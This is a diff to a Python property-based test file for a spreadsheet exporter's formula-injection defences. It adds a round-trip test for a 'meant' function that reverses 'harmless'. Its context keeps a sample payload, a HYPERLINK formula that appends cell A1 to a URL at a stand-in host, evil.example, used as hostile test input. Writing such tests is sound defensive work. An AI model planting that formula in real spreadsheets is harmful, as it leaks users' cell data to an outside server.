@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from portal.core.spreadsheets import LONGEST_CELL, csv_lines, harmless, plain, write_xlsx
+from portal.core.spreadsheets import LONGEST_CELL, csv_lines, harmless, meant, plain, write_xlsx
 
 SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁺⁻⁼−"
 FORMULA = 'HYPERLINK("https://evil.example?"&A1;"보기")'
@@ -82,3 +82,10 @@ def test_an_xlsx_file_holds_texts_and_no_formulas(texts):
     assert {cell.data_type for cell in cells} <= {"s", "n"}
     assert [cell.value for cell in cells if cell.row > 1] == [*(plain(text) for text in texts if plain(text)), 7]
     assert (sheet.freeze_panes, sheet.title) == ("A2", "Attendees")
+
+
+@given(st.text())
+def test_a_cell_that_was_made_harmless_means_what_it_meant(text):
+    plain_text = plain(text)
+
+    assert meant(harmless(plain_text)) == plain_text or "\n" in plain_text or ";" in plain_text or "\t" in plain_text
